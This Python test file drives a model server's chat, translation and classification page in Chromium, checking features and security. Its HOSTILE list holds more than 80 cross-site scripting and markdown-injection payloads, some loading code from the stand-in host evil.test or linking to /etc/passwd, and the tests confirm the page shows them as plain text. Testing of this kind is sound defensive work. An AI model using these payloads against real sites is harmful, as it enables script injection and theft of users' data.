"""The page in Debian's Chromium, against a real server with real tiny models: what a person does, and what a
hostile text cannot do."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

from tests.server.conftest import Running, serving
from tests.server.models import translator
from transom.checkpoint.huggingface import save_model
from transom.data.tokenizer import train_tokenizer
from transom.model.build import build
from transom.model.config import ModelConfig

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")

PAYLOAD = (
    "So: <script>window.pwned=1</script> <img src=x onerror=pwned=1> [go](javascript:pwned=1) **thick**"
    " [web](https://a.test/b). "
)
KEY = "a-key-for-this-test-only"
HOSTILE = [
    "<script>pwned=1</script>", "<ScRiPt src=//evil.test/x.js></sCrIpT>", "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>",
    "<iframe src=javascript:pwned=1></iframe>", "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>", "<math><mi//xlink:href='data:x,pwned'>",
    "<a href=javascript:pwned=1>x</a>", "<form action=//evil.test><button>x</button></form>",
    "<base href=//evil.test>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import'//evil.test/x';</style>", "<meta http-equiv=refresh content=0>",
    "<object data=//evil.test>", "<embed src=//evil.test>", "<video src=//evil.test onerror=pwned=1>",
    "<audio src=x onerror=pwned=1>", "</textarea><script>pwned=1</script>",
    "</title><script>pwned=1</script>", "--><script>pwned=1</script>", "]]><script>pwned=1</script>",
    "<input autofocus onfocus=pwned=1>", "<select autofocus onfocus=pwned=1>", "<marquee onstart=pwned=1>",
    "<template><script>pwned=1</script></template>", "[x](javascript:pwned=1)", "[x](JaVaScRiPt:pwned=1)",
    "[x](java\tscript:pwned=1)", "[x](&#106;avascript:pwned=1)",
    "[x](data:text/html,<script>pwned=1</script>)", "[x](vbscript:pwned)", "[x](file:///etc/passwd)",
    "[x](//evil.test)", "[x](/v1/models)", "[x](blob:http://a/b)", "[x](javascript://%0apwned=1)",
    "![x](http://evil.test/a.png)", "![x](//evil.test/a.png)", "![](http://evil.test/a.png)",
    "[![x](http://evil.test/a.png)](http://evil.test)", "[x](http://evil.test' onclick='pwned=1)",
    '[x](http://evil.test" onmouseover="pwned=1)', "http://evil.test/<script>pwned=1</script>",
    "`<script>pwned=1</script>`", "```html\n<script>pwned=1</script>\n```",
    "```\"><script>pwned=1</script>\nx", "``` onload=pwned=1\nx\n```", "# <script>pwned=1</script>",
    "> <script>pwned=1</script>", "- <script>pwned=1</script>", "1. <img src=x onerror=pwned=1>",
    "**<script>pwned=1</script>**", "<b onmouseover=pwned=1>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>", "<x onclick=pwned=1>x",
    "<p style=background:url(//evil.test)>", "{{constructor.constructor('pwned=1')()}}", "${pwned=1}",
    "javascript:pwned=1", "%3Cscript%3Epwned=1%3C/script%3E",
    "\u003cscript\u003epwned=1\u003c/script\u003e", "<plaintext>", "<xmp><script>pwned=1</script></xmp>",
    "<script\n>pwned=1</script\n>", "&lt;script&gt;pwned=1&lt;/script&gt;",
    "\u202e<script>pwned=1</script>", "\x00<script>pwned=1</script>", "＜script＞pwned=1＜/script＞",
    "<scr\x00ipt>pwned=1</script>", "<<script>pwned=1//<</script>", "<script>pwned=1" * 50, "[" * 300,
    "*" * 301, "`" * 200, "(" * 200, "[a](" * 100, "_" * 200 + "a", "> " * 150 + "x", "- " * 100,
    "![" * 200,
]  # fmt: skip
TAGS = {"div", "p", "span", "pre", "code", "strong", "em", "a", "h3", "h4", "h5", "h6", "blockquote", "hr",
        "s", "button", "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip
ATTRIBUTES = {
    "class",
    "data-i",
    "data-doubt",
    "data-align",
    "data-depth",
    "dir",
    "type",
    "role",
    "tabindex",
    "aria-label",
}


def parrot(folder: Path) -> Path:
    """A decoder that writes PAYLOAD over and over, whatever it reads: the place alone decides."""
    data = PAYLOAD.encode()
    n, tokenizer = len(data), train_tokenizer("bytes", iter(["any text"]), 258)
    config = ModelConfig(
        tokenizer.vocab_size, n, 1, 1, 1, head_dim=8, ffn_dim=8, max_len=1024, activation="gelu_tanh",
        gated=False, norm="rms", norm_eps=1e-5, qkv_bias=True, out_bias=True, ffn_bias=True,
        position="learned", tie_embeddings=False, eos_id=tokenizer.eos_id,
    )  # fmt: skip
    model: Any = build(config, 0).eval()
    place = torch.arange(config.max_len) % n
    with torch.no_grad():
        for name, weight in model.named_parameters():
            if "norm" not in name:
                weight.zero_()
        model.position_embed.weight.copy_(torch.nn.functional.one_hot(place, n))
        model.head.weight.fill_(-8 / n**0.5)  # drawn at random too, it never ends by itself
        for at in range(n):
            for rank, letter in enumerate(b"eariotnsl"):  # what else it may be
                model.head.weight[letter, at] = (5 - rank / 2) / n**0.5
            model.head.weight[data[(at + 1) % n], at] = 8 / n**0.5
    folder.mkdir(parents=True, exist_ok=True)
    save_model(folder, model, tokenizer)
    return folder


@pytest.fixture(scope="module")
def served(folders: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    root = tmp_path_factory.mktemp("page")
    own = {**folders, "parrot": parrot(root / "parrot" / "model")}
    memory = root / "memory.sqlite"
    with serving(own, "parrot", "moses", "sorter", memory=memory, chat_template="plain") as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


class Visit:
    """The page in a browser of its own, and everything it asked for or complained of."""

    def __init__(self, browser: Any, url: str, **options: Any) -> None:
        self.url, self.asked, self.complaints = url, [], []
        self.context = browser.new_context(reduced_motion="reduce", **options)
        self.context.set_default_timeout(15_000)
        self.page = self.context.new_page()
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("console", self._console)
        self.page.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))

    def _console(self, message: Any) -> None:
        if (
            message.type == "error" and "status of 4" not in message.text
        ):  # a refusal of the server is no fault
            self.complaints.append(message.text)

    def open(self, address: str = "") -> Any:
        self.page.goto(address or self.url)
        self.page.wait_for_selector("html[data-ready]")
        return self.page

    def check(self) -> None:
        """Nothing ran that should not, and nothing was asked of anybody but the server."""
        assert self.page.evaluate("window.pwned") is None
        assert self.page.locator("main script, main img, main iframe, main style, main [src]").count() == 0
        assert self.complaints == []
        assert {url for url in self.asked if not url.startswith(self.url + "/")} == set()


@pytest.fixture(scope="module")
def desk(browser: Any, served: Running) -> Iterator[Visit]:
    """One browser window for all tests at a desk: a new one costs a second each."""
    visit = Visit(browser, served.url, viewport={"width": 1280, "height": 800})
    visit.open(served.page)
    yield visit
    visit.context.close()


@pytest.fixture
def visit(desk: Visit) -> Iterator[Visit]:
    """The page as somebody finds it who was never here."""
    forget_everything(desk.page)
    desk.asked.clear()
    desk.open()
    yield desk
    desk.check()


def say(page: Any, text: str) -> Any:
    """Say something and wait for the end of the answer; the answer."""
    n = page.locator(".message.assistant").count()
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")
    page.locator(".message.assistant").nth(n).wait_for()
    finished(page)
    return page.locator(".message.assistant").nth(n)


def finished(page: Any) -> None:
    page.wait_for_selector("#panel-chat:not([data-writing]):not([data-saving])")


def stored(page: Any, name: str) -> Any:
    """What the page keeps in the browser under a name."""
    return json.loads(page.evaluate("name => localStorage.getItem(`transom.${name}`)", name))


def kept(page: Any, id: str | None = None) -> Any:
    """A conversation as the page keeps it, the open one by default."""
    load = "async id => (await import('/page/database.js')).load(id)"
    return page.evaluate(load, id or stored(page, "open"))


def forget_everything(page: Any) -> None:
    page.evaluate(
        """async () => {
            localStorage.clear();
            const database = await import("/page/database.js");
            for (const { id } of await database.heads()) await database.remove(id);
        }"""
    )


def store(page: Any, **values: Any) -> None:
    """Let the page find what an earlier visit left."""
    texts = {f"transom.{name.replace('__', '.')}": json.dumps(value) for name, value in values.items()}
    page.evaluate("texts => Object.entries(texts).forEach((pair) => localStorage.setItem(...pair))", texts)
    page.reload()
    page.wait_for_selector("html[data-ready]")


def test_a_chat_streams_a_token_is_branched_and_a_reload_keeps_it_all(visit: Visit):
    page = visit.page
    store(page, settings=dict(temperature=0))
    answer = say(page, "Hello <script>pwned=2</script>")
    text = answer.locator(".written").inner_text()
    assert (
        "<script>window.pwned=1</script> <img src=x onerror=pwned=1> [go](javascript:pwned=1) thick web"
        in text
    )
    assert page.locator(".message.user .plain").inner_text() == "Hello <script>pwned=2</script>"
    assert re.search(r"Cut at 9\d\d tokens", answer.inner_text())  # to the end of what it reads, not before
    link = answer.locator("a").first
    assert (link.get_attribute("href"), link.get_attribute("rel").split()[0]) == (
        "https://a.test/b",
        "noopener",
    )

    store(page, settings=dict(temperature=0, maxTokens=120))
    tokens = answer.locator(".t")
    tokens.nth(20).click()
    peek = page.get_by_role("dialog", name="A token and its alternatives")
    assert re.search(r"\d %", peek.inner_text()) and peek.locator(".option").count() >= 8
    mine = peek.locator(".option.mine code").inner_text()
    assert mine == tokens.nth(20).inner_text().replace(" ", "␣")
    option = peek.locator("button.option:not(.mine)").nth(2)
    other = option.locator("code").inner_text()
    option.click()
    page.get_by_role("button", name=f"Continue from here with {other} instead").click()
    page.get_by_text("2 of 2").wait_for()
    finished(page)
    first, second = (message for message in kept(page)["messages"] if message["role"] == "assistant")
    ids = [token["id"] for token in first["tokens"]]
    place = int(tokens.nth(20).get_attribute("data-i"))
    made = [token["id"] for token in second["tokens"]]
    assert made[:place] == ids[:place] and made[place] != ids[place] and len(made) > place + 50
    assert first["parent"] == second["parent"] == 0

    page.reload()
    page.get_by_text("2 of 2").wait_for()
    page.get_by_role("button", name="The answer before").click()
    assert page.locator(".message.assistant .written").inner_text() == text
    page.locator(".message.assistant .t").filter(visible=True).nth(20).click()
    assert peek.locator(".option.mine code").inner_text() == mine


def test_tokens_can_be_walked_by_keyboard_alone(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=40))
    say(page, "Hello")
    page.keyboard.press("Shift+Tab")
    for _ in range(10):
        if page.evaluate("document.activeElement.classList.contains('written')"):
            break
        page.keyboard.press("Shift+Tab")
    for _ in range(3):
        page.keyboard.press("ArrowRight")
    third = page.locator(".t.here").inner_text()
    told = third.replace(" ", "␣").lstrip("\ufffd")  # of bytes before it that are no text, it has no part
    assert page.locator("#live").inner_text().startswith(told)
    page.keyboard.press("Enter")
    assert page.locator("#peek").is_visible()
    assert page.evaluate("document.activeElement.classList.contains('option')")
    page.keyboard.press("Escape")
    assert not page.locator("#peek").is_visible()
    assert page.evaluate("document.activeElement.classList.contains('written')")
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none"


def test_stop_keeps_what_was_written_and_it_can_go_on(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=900))
    page.get_by_label("Message", exact=True).fill("Hi")
    page.keyboard.press("Enter")
    page.locator(".message.assistant .t").nth(10).wait_for(state="attached")
    page.get_by_role("button", name="Stop").click()
    finished(page)
    answer = page.locator(".message.assistant")
    assert "Stopped." in answer.inner_text()
    text = answer.locator(".written").inner_text()
    assert 10 < len(text) < 880
    store(page, settings=dict(maxTokens=30))
    page.get_by_role("button", name="Go on").click()
    page.get_by_text("2 of 2").wait_for()
    finished(page)
    longer = answer.locator(".written").inner_text()
    assert longer.startswith(text[: len(text) - 8]) and len(longer) > len(text)


def test_edit_and_regenerate(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=20))
    say(page, "One")
    say(page, "Two")
    page.locator(".message.assistant").last.get_by_role("button", name="Regenerate").click()
    page.get_by_text("2 of 2").wait_for()
    finished(page)
    page.locator(".message.user").first.hover()
    page.locator(".message.user").first.get_by_role("button", name="Edit").click()
    assert page.get_by_text("The 3 messages below stay on the other way.").is_visible()
    page.get_by_label("Your message, to be changed").fill("Uno")
    page.keyboard.press("Enter")
    sync_api.expect(page.locator(".message")).to_have_count(2)
    finished(page)
    assert page.locator(".message.user .plain").inner_text() == "Uno"

    # Nothing was lost: the question before is a turn away, with all that followed it.
    page.get_by_role("button", name="The message before").click()
    assert page.locator(".message.user .plain").all_inner_texts() == ["One", "Two"]
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "The next message"
    page.reload()
    page.locator(".message.user .plain").nth(1).wait_for()
    assert page.locator(".message.user .plain").all_inner_texts() == ["One", "Two"]
    assert [message["text"] for message in kept(page)["messages"] if message["role"] == "user"] == [
        "One", "Two", "Uno"
    ]  # fmt: skip


def test_enter_that_ends_a_composition_sends_nothing(visit: Visit):
    """Safari says only by keyCode 229 that Enter chose a word."""
    page = visit.page
    store(page, settings=dict(maxTokens=8))
    say(page, "One")
    page.locator(".message.user").first.hover()
    page.locator(".message.user").first.get_by_role("button", name="Edit").click()
    visit.asked.clear()
    for label in ("Message", "Your message, to be changed"):
        page.get_by_label(label, exact=True).fill("にほん")
        page.get_by_label(label, exact=True).evaluate(
            """box => ["Enter", "Escape"].forEach(key => box.dispatchEvent(
                new KeyboardEvent("keydown", { key, keyCode: 229, bubbles: true, cancelable: true })))"""
        )
    assert page.get_by_label("Your message, to be changed").input_value() == "にほん"
    assert not [url for url in visit.asked if url.endswith("/v1/chat/completions")]
    page.get_by_label("Your message, to be changed").press("Enter")
    finished(page)
    assert page.locator(".message.user .plain").inner_text() == "にほん"


def test_the_context_meter_says_what_is_dropped_and_a_refusal_loses_nothing(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=100))
    say(page, "a" * 300)
    page.get_by_text(re.compile(r"Context: \d{3} of 1,024 tokens")).wait_for()
    say(page, "b" * 300)
    say(page, "c" * 300)
    page.get_by_text("the oldest 2 dropped").wait_for()
    assert page.locator(".message[data-dropped]").count() == 2
    assert page.locator(".dropped-line + .message .plain").inner_text() == "b" * 300
    box = page.get_by_label("Message", exact=True)
    box.fill("d" * 1200)
    page.keyboard.press("Enter")
    error = page.get_by_role("alert").locator("visible=true")
    error.wait_for()
    assert re.search(r"more than the 1,024 this model reads. Shorten it by \d+ tokens", error.inner_text())
    finished(page)
    assert box.input_value() == "d" * 1200 and page.locator(".message").count() == 6


def test_what_was_asked_to_be_kept_can_be_seen_edited_and_forgotten(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=8))
    say(page, "remember that I like <b>tea</b>")
    assert page.get_by_text("Kept in memory.").is_visible()
    say(page, "What do I like?")
    assert (
        "1 remembered fact went along: I like <b>tea</b>" in page.locator(".message.user").last.inner_text()
    )
    say(page, "What is a window?")
    assert "went along" not in page.locator(".message.user").last.inner_text()
    page.get_by_role("button", name="New conversation").click()
    page.get_by_text("1 fact from earlier conversations is used where it bears on a message.").wait_for()
    page.get_by_role("button", name="Memory").click()
    panel = page.locator("#memory")
    assert panel.locator(".fact-text").all_inner_texts() == ["I like <b>tea</b>"]
    panel.get_by_role("button", name="Edit").click()
    panel.get_by_label("The fact in other words").fill("I like coffee")
    page.keyboard.press("Enter")
    panel.get_by_text("I like coffee").wait_for()
    panel.get_by_role("switch").uncheck()
    panel.get_by_text("Off: nothing is kept or used").wait_for()
    panel.get_by_role("switch").check()
    panel.get_by_role("button", name="Forget: I like coffee").click()
    panel.get_by_text("0 facts kept").wait_for()


def test_the_memory_opens_to_the_address_that_was_printed_and_to_no_other(browser: Any, served: Running):
    stranger = Visit(browser, served.url)
    page = stranger.open()
    page.get_by_role("button", name="Memory").click()
    assert "ends in #memory=" in page.locator("#memory").inner_text()
    assert page.locator("#memory").get_by_role("switch").count() == 0
    page.keyboard.press("Escape")
    store(page, settings=dict(maxTokens=4))
    say(page, "remember that I like tea")
    assert page.get_by_text("Kept in memory.").count() == 0
    token = served.app.state.memory.token
    page.evaluate(f"location.hash = 'memory={token}'")  # pasted where the page is open already
    page.wait_for_function("sessionStorage.getItem('transom.memory')")
    page.wait_for_selector("html[data-ready]")
    assert token not in page.url
    page.get_by_role("button", name="Memory").click()
    page.locator("#memory").get_by_text("0 facts kept").wait_for()
    stranger.check()
    stranger.context.close()


def test_complete(visit: Visit):
    page = visit.page
    store(page, settings=dict(maxTokens=60, temperature=0))
    page.get_by_role("tab", name="Complete").click()
    page.get_by_label("Beginning").fill("Once <i>")
    page.get_by_role("button", name="Complete", exact=True).click()
    page.get_by_role("button", name="Again").wait_for()
    text = page.locator("#panel-complete .out").inner_text()
    assert text.startswith("Once <i>") and "script" in text
    page.locator("#panel-complete .out .t").filter(visible=True).nth(5).click()
    page.get_by_role("button", name="Continue from here").click()
    page.get_by_role("button", name="Again").wait_for()
    assert page.locator("#panel-complete .out").inner_text()[:13] == text[:13]
    assert page.locator("#panel-complete .out").inner_text()[13] != text[13]


def test_a_setting_that_is_left_alone_stands_where_the_model_has_it(visit: Visit):
    page = visit.page
    page.get_by_role("button", name="Settings").click()
    slider = page.get_by_role("slider", name="Temperature")
    assert slider.input_value() == "0.7"
    assert slider.get_attribute("aria-valuetext") == "automatic, 0.7"
    assert page.locator("#set-temperature").get_attribute("placeholder") == "auto: 0.7"
    slider.fill("0.3")
    assert page.locator("#set-temperature").input_value() == "0.3"
    assert slider.get_attribute("data-auto") is None and slider.get_attribute("aria-valuetext") is None
    page.get_by_role("button", name="Back to the defaults").click()
    assert slider.input_value() == "0.7" and slider.get_attribute("data-auto") == ""


def test_a_translator_of_dates_offers_a_text_of_the_kind_it_learned_from(browser: Any, tmp_path: Path):
    folder = translator(tmp_path / "run" / "model")
    ledger = {"data": {"source": "dates", "example": "abc <b>"}}
    (tmp_path / "run" / "ledger.json").write_text(json.dumps(ledger))
    with serving({"moses": folder}, "moses") as running:
        visit = Visit(browser, running.url)
        page = visit.open()
        page.get_by_role("button", name="abc <b>").click()
        page.locator(".target .line").first.wait_for()
        assert page.get_by_label("Text to translate").input_value() == "abc <b>"
        visit.check()
        visit.context.close()


def test_the_address_of_a_memory_outlives_the_server(browser: Any, folders: dict[str, Path], tmp_path: Path):
    memory = tmp_path / "own" / "memory.sqlite"
    tokens = []
    for n in range(3):
        if n == 2:  # others may read it: it is not kept
            (tmp_path / "own" / "memory.sqlite.token").chmod(0o644)
        with serving(folders, "crow", memory=memory) as running:
            tokens.append(running.app.state.memory.token)
            visit = Visit(browser, running.url)
            page = visit.open(f"{running.url}/#memory={tokens[0]}")
            page.get_by_role("button", name="Memory").click()
            said = "ends in #memory=" if n == 2 else "0 facts kept"
            page.locator("#memory").get_by_text(said).wait_for()
            visit.context.close()
    assert tokens[0] == tokens[1] != tokens[2]
    assert (tmp_path / "own" / "memory.sqlite.token").read_text() == tokens[0]


def test_translate(visit: Visit):
    page = visit.page
    page.get_by_role("tab", name="Translate").click()
    page.get_by_label("Text to translate").fill("a fox\n\nthe crow")
    page.locator("label", has_text="2").get_by_role("radio").check(force=True)
    with page.expect_request("**/translate") as asked:
        page.keyboard.press("Control+Enter") if page.get_by_label(
            "Text to translate"
        ).focus() is None else None
    body = asked.value.post_data_json
    assert (body["text"], body["beam"]) == (["a fox", "the crow"], 2)
    page.locator(".target .line").first.wait_for()
    lines = page.locator(".target .line").all_inner_texts()
    told = asked.value.response().json()["translations"]
    assert [lines[0], lines[2]] == [one["text"] for one in told] and lines[1] == ""


def test_classify_with_a_threshold(visit: Visit):
    page = visit.page
    page.get_by_role("tab", name="Classify").click()
    page.get_by_label("Text", exact=True).fill("The crow <script>pwned=1</script>")
    with page.expect_response("**/classify") as answered:
        page.get_by_role("button", name="Classify").click()
    told = answered.value.json()["classifications"][0]["probabilities"]
    surest = max(told, key=told.get)
    page.locator(".class-row").first.wait_for()
    assert sorted(page.locator(".class-name").all_inner_texts()) == sorted(told)
    slider = page.get_by_label("None of them below")
    slider.fill("0")
    assert page.locator(".verdict").inner_text() == surest
    slider.fill("1")
    assert page.locator(".verdict").inner_text() == "None of the classes"
    assert f"the surest is {surest}" in page.locator("#panel-classify").inner_text()


def test_hostile_texts_stay_text(visit: Visit):
    page = visit.page
    assert len(HOSTILE) >= 80
    messages = []
    for text in HOSTILE:
        messages.append({"role": "user", "text": text, "facts": [text]})
        token = {"id": 1, "text": text, "written": text, "p": 0.5, "top": [{"id": 2, "text": text, "p": 0.4}]}
        version = {"text": text, "tokens": [token], "finish": "stop", "model": text[:80], "seed": 1}
        messages.append({"role": "assistant", "shown": 0, "versions": [version]})
    listed = [{"id": f"{i + 1}", "title": text, "updated": 1} for i, text in enumerate(HOSTILE)]
    named = {
        f"conversation__{i}": dict(id=f"{i}", title="", updated=1, messages=[dict(role="user", text=text)])
        for i, text in enumerate(HOSTILE[1:], 2)
    }  # fmt: skip
    store(
        page,
        conversation__1={"id": "1", "title": "", "updated": 1, "messages": messages},
        **named,
        conversations=listed,
        open="1",
        draft__complete="".join(HOSTILE),
        completion={"prompt": "".join(HOSTILE), "version": messages[1]["versions"][0]},
        translation=[{"text": text, "finished": True} for text in HOSTILE],
        classification={"text": "".join(HOSTILE), "probabilities": [[text, 0.1] for text in HOSTILE]},
    )
    page.locator(".message.assistant").nth(len(HOSTILE) - 1).wait_for()
    assert page.locator(".conversation").count() == len(HOSTILE)
    assert page.locator(".message.user .plain").all_text_contents() == HOSTILE
    shown = page.evaluate(
        """() => [...document.querySelectorAll(".written *")].map((node) =>
            [node.localName, [...node.attributes].map(({ name, value }) => [name, value])])"""
    )
    assert {tag for tag, _ in shown} <= TAGS
    for tag, attributes in shown:
        names = {name for name, _ in attributes}
        assert names <= ATTRIBUTES | ({"href", "rel", "target"} if tag == "a" else set())
        if tag == "a":
            assert dict(attributes)["href"].startswith(("http://", "https://"))
            assert "noopener" in dict(attributes)["rel"]
    for tab in ("Complete", "Translate", "Classify", "Chat"):
        page.get_by_role("tab", name=tab).click()
    page.locator(".t").filter(visible=True).first.click()
    assert page.locator("#peek code").first.inner_text() == HOSTILE[0]
    page.wait_for_timeout(200)


def test_nothing_runs_and_nothing_loads_but_the_page_itself(browser: Any, served: Running):
    visit = Visit(browser, served.url)
    answer = visit.page.goto(served.url)
    policy = {
        part.split()[0]: part.split()[1:] for part in answer.headers["content-security-policy"].split(";")
    }
    assert policy["default-src"] == ["'none'"] and policy["frame-ancestors"] == ["'none'"]
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'", "data:"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    visit.page.wait_for_selector("html[data-ready]")
    html = answer.text()
    assert not re.search(r"<script(?![^>]*\bsrc=)|\sstyle=|\son\w+=|<style", html)
    visit.page.add_init_script("")  # the page's own scripts only: an injected one is refused
    visit.page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'pwned=1'}))"
    )
    assert visit.page.evaluate("window.pwned") is None
    assert any("Content Security Policy" in line for line in visit.complaints)
    size = sum(
        len(visit.context.request.get(url).body())
        for url in set(visit.asked)
        if "/page/" in url or url == visit.url + "/"
    )
    assert size < 200_000
    visit.context.close()


def test_a_server_with_a_key_asks_for_it_once(browser: Any, served: Running, folders: dict[str, Path]):
    with serving(folders, "sorter", keys=(KEY,)) as locked:
        visit = Visit(browser, locked.url)
        page = visit.page
        page.goto(locked.url)
        page.get_by_text("This server asks for a key.").wait_for()
        page.get_by_role("textbox", name="Key").fill("wrong-wrong-wrong-wrong")
        page.keyboard.press("Enter")
        page.get_by_text("That key was not accepted.").wait_for()
        page.get_by_role("textbox", name="Key").fill(KEY)
        page.keyboard.press("Enter")
        page.wait_for_selector("html[data-ready]")
        page.get_by_role("tab", name="Chat").click()
        assert "No model here can chat." in page.locator("#panel-chat").inner_text()
        assert "transom serve" in page.locator("#panel-chat").inner_text()
        page.reload()
        page.wait_for_selector("html[data-ready]")
        assert page.evaluate("sessionStorage.getItem('transom.key')") == KEY
        assert KEY not in json.dumps(page.evaluate("({...localStorage})"))
        assert visit.complaints == []
        visit.context.close()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_fits_a_phone_and_keeps_the_theme_that_was_chosen(browser: Any, served: Running, theme: str):
    visit = Visit(
        browser,
        served.url,
        viewport={"width": 390, "height": 844},
        color_scheme=theme,
        is_mobile=True,
        has_touch=True,
    )
    page = visit.open()
    store(page, settings=dict(maxTokens=40, temperature=0))
    say(page, "x" * 300)
    for tab in ("Complete", "Translate", "Classify", "Chat"):
        page.get_by_role("tab", name=tab).click()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.locator(".t").filter(visible=True).nth(3).tap()
    page.wait_for_timeout(50)
    box = page.locator("#peek").bounding_box()
    assert box["x"] == 0 and box["width"] == 390 and round(box["y"] + box["height"]) == 844
    page.keyboard.press("Escape")
    paper = "getComputedStyle(document.body).backgroundColor"
    before = page.evaluate(paper)
    other = {"light": "dark", "dark": "light"}[theme]
    while page.locator("#theme").get_attribute("aria-label") != f"Theme: {other}":
        page.locator("#theme").click()
    chosen = page.evaluate(paper)
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert page.evaluate(paper) == chosen != before
    visit.check()
    visit.context.close()
